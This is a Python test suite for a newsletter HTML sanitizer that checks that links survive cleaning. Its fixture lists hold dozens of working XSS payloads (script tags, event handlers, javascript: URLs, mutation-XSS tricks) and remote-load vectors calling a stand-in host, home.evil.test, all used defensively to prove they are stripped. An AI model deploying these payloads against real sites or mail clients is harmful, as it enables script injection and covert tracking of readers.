"""Broken and hostile newsletters: each link comes back to exactly its URL, nothing runs or calls home or crashes.

The cases are written by hand after what mail editors and attackers do; hypothesis puts pieces of them together.
"""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from broker.mailings.clean_html import clean_html
from broker.mailings.creative_check import Extras, check_creative
from broker.mailings.slots import SLOT, TAG_IN_URL

HOME = "http://home.evil.test/open.gif?id=1"
FORBIDDEN = frozenset(
    "script form iframe frame object embed applet svg math video audio source input button textarea select base link"
    " template portal noscript xmp plaintext foreignobject".split()
)


class Reader(HTMLParser):
    """What a lenient parser finds: tags, attributes, and addresses that something may load."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.style = ""
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style += data


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def assert_harmless(html: str) -> None:
    found = read(html)
    assert not found.tags & FORBIDDEN
    for name, value in found.attributes:
        assert not name.startswith("on"), f"{name} survived"
        assert name not in ("srcset", "action", "formaction", "ping", "srcdoc", "poster", "data", "dynsrc", "lowsrc")
        plain = "".join(value.split()).lower()
        assert "javascript:" not in plain
        assert "vbscript:" not in plain
        if name in ("src", "background"):
            assert plain.startswith(("data:image/", "{{image:"))
        if name == "href":
            assert plain.startswith(("{{", "#", "mailto:", "tel:", "sms:"))
        if name == "style":
            assert "//" not in plain.replace("data:image/", "")
            assert "expression(" not in plain
    css = found.style + " ".join(value for _, value in found.attributes)
    loaded = re.findall(r"url\(\s*['\"]?(?!data:image/|\{\{image:)([^)]*)", css)
    assert all(not one or one == "none" for one in loaded)
    assert "@import" not in found.style.lower()
    assert "//" not in found.style


CALLS_HOME = [
    f'<img src="{HOME}">',
    f"<img src={HOME}>",
    f'<IMG SRC="{HOME}" onerror="fetch(1)">',
    f'<img srcset="{HOME} 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    f'<picture><source srcset="{HOME}"><img src="{HOME}"></picture>',
    f'<body background="{HOME}">x',
    f"<table background=\"{HOME}\"><tr><td background='{HOME}'>x</table>",
    f'<div style="background:url({HOME})">x</div>',
    f"<div style=\"background:url('{HOME}')\">x</div>",
    f'<div style="background:url(&quot;{HOME}&quot;)">x</div>',
    f'<div style="background:u\\72l({HOME})">x</div>',
    f'<div style="background:\\75\\72\\6c({HOME})">x</div>',
    f'<div style="background:url/**/({HOME})">x</div>',
    f'<div style="background:url(  {HOME}  )">x</div>',
    '<div style="background:url(//home.evil.test/x)">x</div>',
    f'<div style="list-style-image:url({HOME});cursor:url({HOME}),auto">x</div>',
    f'<div style="content:image-set(url({HOME}) 1x)">x</div>',
    f"<div style=\"background:image('{HOME}')\">x</div>",
    f'<div style="background:-webkit-image-set(&quot;{HOME}&quot; 1x)">x</div>',
    f"<style>@import '{HOME}';</style>x",
    f"<style>@import url({HOME}) screen;p{{color:red}}</style><p>x",
    f"<style>@font-face{{font-family:x;src:url({HOME})}}</style>x",
    f"<style>@media screen{{p{{background:url({HOME})}}}}</style><p>x",
    f"<style>@media screen{{@import '{HOME}';p{{color:red}}}}</style><p>x",
    f"<style>p{{background:url({HOME}</style><p>x",
    f"<style><!-- p{{background:url('{HOME}')}} --></style><p>x",
    f'<link rel="stylesheet" href="{HOME}">x',
    f'<link rel=preload as=image href="{HOME}">x',
    '<link rel="dns-prefetch" href="//home.evil.test">x',
    f'<meta http-equiv="refresh" content="0;url={HOME}">x',
    f'<base href="{HOME}"><p>x',
    f'<iframe src="{HOME}"></iframe>x',
    f'<object data="{HOME}"><embed src="{HOME}"></object>x',
    f'<video poster="{HOME}" src="{HOME}"></video>x',
    f'<audio src="{HOME}" autoplay></audio>x',
    f'<svg><image href="{HOME}"/><use xlink:href="{HOME}#a"/></svg>x',
    f"<svg><style>@import url({HOME});</style></svg>x",
    f'<input type="image" src="{HOME}">x',
    f'<form action="{HOME}"><button formaction="{HOME}">go</button></form>x',
    f'<a href="https://shop.test/" ping="{HOME}">x</a>',
    f'<table><tr><td style="behavior:url({HOME})">x</td></tr></table>',
    f'<p style="-moz-binding:url({HOME})">x',
    f'<p style="width:expression(new Image().src=&#39;{HOME}&#39;)">x',
    f'<!--[if mso]><v:fill src="{HOME}"/><![endif]-->x',
    f'<v:background><v:fill type="tile" src="{HOME}"></v:background>x',
    f'<noscript><img src="{HOME}"></noscript>x',
    f'<template><img src="{HOME}"></template>x',
    f'<math><mtext><img src="{HOME}"></mtext></math>x',
    f"<title><img src='{HOME}'></title>x",
    f"<textarea></textarea><img src='{HOME}'>x",
    f"<xmp><img src='{HOME}'></xmp>x",
    f"<plaintext><img src='{HOME}'>x",
]
RUNS = [
    "<script>alert(1)</script>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>x",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>x",
    "<script\n>alert(1)</script\n>x",
    "<svg/onload=alert(1)>x",
    "<svg><script>alert(1)</script></svg>x",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x',
    "<img src=x onerror=alert(1)>x",
    "<body onload=alert(1)>x",
    "<p onmouseover  =  'alert(1)'>x",
    "<p ONCLICK=alert(1)>x",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='javascript:alert(1)'>x</a> y",
    "<a href=' \x01javascript:alert(1)'>x</a> y",
    "<a href='jav&#x09;ascript:alert(1)'>x</a> y",
    "<a href='&#106;avascript:alert(1)'>x</a> y",
    "<a href='JaVaScRiPt:alert(1)'>x</a> y",
    "<a href='vbscript:msgbox(1)'>x</a> y",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a> y",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>x",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>x",
    "<form><input autofocus onfocus=alert(1)></form>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>x",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x',
    "<style></style><script>alert(1)</script>x",
    '<style><img src="</style><img src=x onerror=alert(1)//">x',
    "<!--><img src=x onerror=alert(1)>-->x",
    "<!-- --!><img src=x onerror=alert(1)> -->x",
    "<table><script>alert(1)</script><tr><td>x</table>",
    "<select><option><script>alert(1)</script></select>x",
    '<a href="https://shop.test/"onclick="alert(1)">x</a>',
    "<p title='`onmouseover=alert(1)'>x",
    "<p/onclick=alert(1)/>x",
    "<<script>alert(1);//<</script>x",
    '<img """><script>alert(1)</script>">x',
    '<p style="background:url(javascript:alert(1))">x',
]


@pytest.mark.parametrize("html", CALLS_HOME + RUNS)
def test_nothing_runs_and_nothing_calls_home(html: str) -> None:
    report = check_creative(f"<html><body><p>Bonjour</p>{html}</body></html>")
    assert_harmless(report.html)
    assert "home.evil.test" not in re.sub("<title>.*?</title>", "", report.html)  # a title is text
    again = clean_html(SLOT.sub("", report.html))  # what came out is harmless for a browser that reads it once more
    assert_harmless(again.html)


ODD = (
    "<table>", "</td>", "<p>", "</div>", "<b><i></b>", "<!--", "-->", "<![CDATA[", "<?php x ?>", "<o:p>", "</html>",
    "<html>", "é€😀", "&amp&lt", "<a", "<a href=", "\x00", "</", "*|FNAME|*", "{{first_name|", "}}", "{{image:x}}",
    "<style>", "</style>", "'", '"', ">",
)  # fmt: skip
PIECES = st.sampled_from([*CALLS_HOME, *RUNS, *ODD])


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES | st.text(max_size=12), max_size=12))
def test_whatever_is_put_together_stays_harmless(pieces: list[str]) -> None:
    report = check_creative("".join(pieces))
    assert_harmless(report.html)
    assert report.rewritten <= report.links


URL = st.text("abcXYZ019-._~:/?#[]@!$&'()*+,;=% |^`\\éü漢", min_size=1, max_size=40).map(
    lambda rest: ("https://shop.test/" + rest.replace("{", "")).strip()
)


@settings(max_examples=150, deadline=None)
@given(st.lists(URL, min_size=1, max_size=12))
def test_every_link_comes_back_to_exactly_its_url(urls: list[str]) -> None:
    kept = [url for url in urls if not TAG_IN_URL.search(url)]
    html = "<p>Offres</p>" + "".join(f'<td><a href="{escape(url)}">lien<b></a>' for url in kept)
    report = check_creative(html)
    assert list(report.urls) == kept
    slots = re.findall(r"\{\{link:(\d+)\}\}", report.html)
    assert [int(slot) for slot in slots if slot != "0"] == list(range(1, len(kept) + 1))


def test_thousands_of_links_in_broken_tables_come_back_in_order() -> None:
    urls = [f"https://shop.test/p/{n}?a={n}&b=é{n}&copy=1&amp;c=%20{n}#x&y" for n in range(3_000)]
    html = "<p>Catalogue</p>" + "".join(
        f"<table><tr><td><font color=red><a target=_blank HREF='{escape(url)}'>n° {n}<div></a></td>"
        for n, url in enumerate(urls)
    )
    report = check_creative(html)
    # A block inside a link splits it in two, as in every browser: both halves lead to the same place.
    assert list(dict.fromkeys(report.urls)) == urls
    assert report.errors == ()


def test_a_template_of_a_usual_mailer_is_understood_and_its_links_are_kept() -> None:
    html = """<!doctype html><html xmlns:v="urn:schemas-microsoft-com:vml"><head><title>*|MC:SUBJECT|*</title>
    <!--[if gte mso 15]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]-->
    <style type="text/css">@media only screen and (max-width:480px){.mcnImage{width:100%!important}} p{margin:10px 0}
    </style></head><body><!--*|IF:MC_PREVIEW_TEXT|*--><span class="mcnPreviewText">*|MC_PREVIEW_TEXT|*</span>
    <!--*|END:IF|*--><table mc:repeatable="x"><tr><td mc:edit="body"><h1>Bonjour *|FNAME|* *|LNAME|*</h1>
    <a href="https://shop.test/?utm_source=x&amp;c=1">Voir</a>
    *|IF:FNAME|* Cher *|FNAME|* *|ELSE:|* Cher client *|END:IF|*
    <em>Copyright &copy; *|CURRENT_YEAR|* *|LIST:COMPANY|*</em> <a href="*|UNSUB|*">se désinscrire</a>
    <a href="*|UPDATE_PROFILE|*">préférences</a> *|HTML:LIST_ADDRESS_HTML|* *|IF:REWARDS|* *|HTML:REWARDS|* *|END:IF|*
    </td></tr></table></body></html>"""
    report = check_creative(html, "fr", "Pour *|FNAME|*")
    assert report.unknown_tags == ()  # of the subject neither: it is understood like the body
    clean = check_creative(html, "fr", "Pour {{first_name|vous}}")
    assert clean.errors == ()
    assert clean.urls == ("https://shop.test/?utm_source=x&c=1",)
    assert "@media" in clean.html
    assert "*|" not in clean.html
    assert "{{first_name}}" in clean.html
    assert clean.html.count("{{unsubscribe_url}}") == 2


def test_media_queries_are_kept_and_the_rest_is_inlined() -> None:
    html = (
        "<html><head><style>p.a{color:#123456} @media (max-width:600px){p.a{font-size:20px!important}}"
        " @media (prefers-color-scheme:dark){p.a{color:#fff}}</style></head><body>"
        "<p class=a>Bonjour à tous</p></body></html>"
    )
    report = check_creative(html)
    assert re.search(r'<p[^>]*style="[^"]*color: ?#123456', report.html)
    assert report.html.count("@media") == 2


def test_weight_and_the_share_of_pictures_are_said() -> None:
    heavy = check_creative("<p>Bonjour</p>" + "<p>une ligne de texte pour les lecteurs</p>" * 4_000)
    assert any("bytes" in one for one in heavy.warnings)
    pictures = check_creative(
        "<p>Soldes</p>" + "".join(f"<img src='https://x.test/{n}.png' alt='a'>" for n in range(5))
    )
    assert any("pictures" in one for one in pictures.warnings)
    assert check_creative("<img src='https://x.test/a.png'>").errors  # nothing to read


def test_images_that_we_serve_stay_and_the_others_go() -> None:
    name = "0" * 32 + ".png"
    html = f'<p>Bonjour</p><img src="https://a.test/1.png" alt="Un"><img src="{HOME}" alt="Deux">'
    report = check_creative(html, extras=Extras(images={"https://a.test/1.png": name}))
    assert f"{{{{image:{name}}}}}" in report.html
    assert "Deux" in report.html
    assert_harmless(report.html)
